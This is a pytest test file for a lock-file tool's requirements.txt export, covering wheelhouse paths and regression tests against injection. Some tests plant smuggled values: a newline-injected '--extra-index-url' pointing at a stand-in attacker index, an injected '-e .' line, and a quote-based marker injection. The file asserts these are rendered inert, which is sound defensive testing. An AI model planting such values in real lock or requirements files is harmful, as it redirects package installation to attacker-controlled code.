"""``export --to requirements --wheelhouse DIR -o FILE``: the wheelhouse is written relative to
FILE's directory (pip resolves it from there, so the pair moves together) and the header's
install line names FILE, not always requirements.txt."""

from __future__ import annotations

import hashlib
import subprocess
import sys
import zipfile
from pathlib import Path
from typing import Any

import pytest
from helpers import LockFactory

from envlock.commands import main
from envlock.errors import UsageError
from envlock.export.artifacts import Artifact, Resolved
from envlock.export.requirements import render
from envlock.lock import save


def _wheel(directory: Path) -> Path:
    path = directory / "six-1.17.0-py3-none-any.whl"
    with zipfile.ZipFile(path, "w") as zf:
        zf.writestr("six/__init__.py", "")
        zf.writestr("six-1.17.0.dist-info/METADATA", "Metadata-Version: 2.1\nName: six\nVersion: 1.17.0\n")
        zf.writestr("six-1.17.0.dist-info/WHEEL", "Wheel-Version: 1.0\nGenerator: t\nRoot-Is-Purelib: true\nTag: py3-none-any\n")
        zf.writestr("six-1.17.0.dist-info/RECORD", "")
    return path


def test_relative_find_links_and_the_real_file_name(restore_lock: LockFactory, tmp_path: Path) -> None:
    lock = restore_lock(packages=[("six", "1.17.0")])
    art = Artifact("six-1.17.0-py3-none-any.whl", "ab" * 32, path=str(tmp_path / "house" / "six.whl"))
    resolved = [Resolved(lock.packages[0], "wheelhouse", artifacts=(art,))]
    text = render(lock, resolved, wheelhouse=tmp_path / "house", relative_to=tmp_path / "out",
                  filename="reqs-gpu.txt")
    assert "--find-links ../house\n" in text
    assert "# install: pip install --require-hashes -r reqs-gpu.txt\n" in text
    # On stdout there is no file to be relative to: the absolute path, quoted for pip's shlex.
    text = render(lock, resolved, wheelhouse=tmp_path / "my house")
    assert f"--find-links '{tmp_path / 'my house'}'\n" in text
    assert "-r requirements.txt\n" in text
    with pytest.raises(UsageError, match="line break"):
        render(lock, resolved, wheelhouse=tmp_path / "a\nb")
    # A file name cannot start a line of its own in the header.
    assert "\nevil" not in render(lock, resolved, filename="x\nevil")


@pytest.mark.slow  # pip resolves the file
def test_a_crafted_platform_cannot_add_a_line_to_the_file(restore_lock: LockFactory, tmp_path: Path) -> None:
    """The header's "# python X on OS MACHINE" once wrote the platform raw: a lock whose
    ``platform.os`` held a newline added any line pip reads (``--extra-index-url``, ``-e``)."""
    lock = restore_lock(packages=[("six", "1.17.0")])
    evil = "Linux\n--extra-index-url http://evil.example/simple"
    lock = lock.model_copy(update={"platform": lock.platform.model_copy(update={"os": evil, "machine": "x\r\n-e ."})})
    art = Artifact("six-1.17.0-py3-none-any.whl", "ab" * 32, path=str(tmp_path / "house" / "six.whl"))
    text = render(lock, [Resolved(lock.packages[0], "wheelhouse", artifacts=(art,))], wheelhouse=tmp_path / "house")
    assert [ln for ln in text.splitlines() if not ln.startswith(("#", " "))] == \
        ["--no-index", f"--find-links {tmp_path / 'house'}", "six==1.17.0 \\"]
    assert " on Linux\\n--extra-index-url http://evil.example/simple x\\r\\n-e .\n" in text  # shown, inert
    # Twin: an ordinary platform reads as before.
    assert "on Linux x86_64\n" in render(restore_lock(packages=[("six", "1.17.0")]), [], wheelhouse=tmp_path)


def test_pip_reads_the_wheelhouse_from_the_files_directory(restore_lock: LockFactory, tmp_path: Path) -> None:
    house = tmp_path / "house"
    house.mkdir()
    wheel = _wheel(house)
    sha = hashlib.sha256(wheel.read_bytes()).hexdigest()
    lock = save(restore_lock(packages=[{"name": "six", "version": "1.17.0", "hashes": [f"sha256:{sha}"]}]),
                tmp_path / "env.lock")
    out = tmp_path / "deploy" / "reqs.txt"
    out.parent.mkdir()
    assert main(["export", str(lock), "--to", "requirements", "--wheelhouse", str(house), "-o", str(out)]) == 0
    assert "--find-links ../house\n" in out.read_text()
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    res = subprocess.run([sys.executable, "-m", "pip", "download", "--no-deps", "-d", str(tmp_path / "dl"),
                          "--require-hashes", "-r", str(out)], cwd=elsewhere, capture_output=True, text=True,
                         timeout=300, check=False)
    assert res.returncode == 0, res.stdout + res.stderr
    assert (tmp_path / "dl" / wheel.name).exists()


def test_crafted_platform_fields_are_refused_or_read_not_a_crash(restore_lock: LockFactory) -> None:
    """A lock with ``platform.libc_version = "2.36*a"`` once stopped pylock and requirements with
    an internal error (exit 3, ValueError), and a quote in ``platform.machine`` either crashed
    the marker parser or added a clause to pylock's ``environments`` marker."""
    from envlock.errors import UnsafeValue
    from envlock.export.artifacts import lock_tags
    from envlock.export.pylock import _environments

    lock = restore_lock(packages=[("six", "1.17.0")])

    def with_platform(**fields: str) -> Any:
        return lock.model_copy(update={"platform": lock.platform.model_copy(update=fields)})

    tags = lock_tags(with_platform(libc="glibc", libc_version="2.36*a| x"))
    assert tags is not None and any(t.platform == "manylinux_2_36_x86_64" for t in tags)
    for machine in ('x86_64" or "1" == "1', "x86_64\nzqpwn"):
        with pytest.raises(UnsafeValue, match=r"platform\.machine"):
            _environments(with_platform(machine=machine))
    # Twin: an ordinary platform gives the marker as before.
    (marker,) = _environments(lock) or []
    assert str(marker) == 'sys_platform == "linux" and platform_machine == "x86_64" and implementation_name == "cpython"'
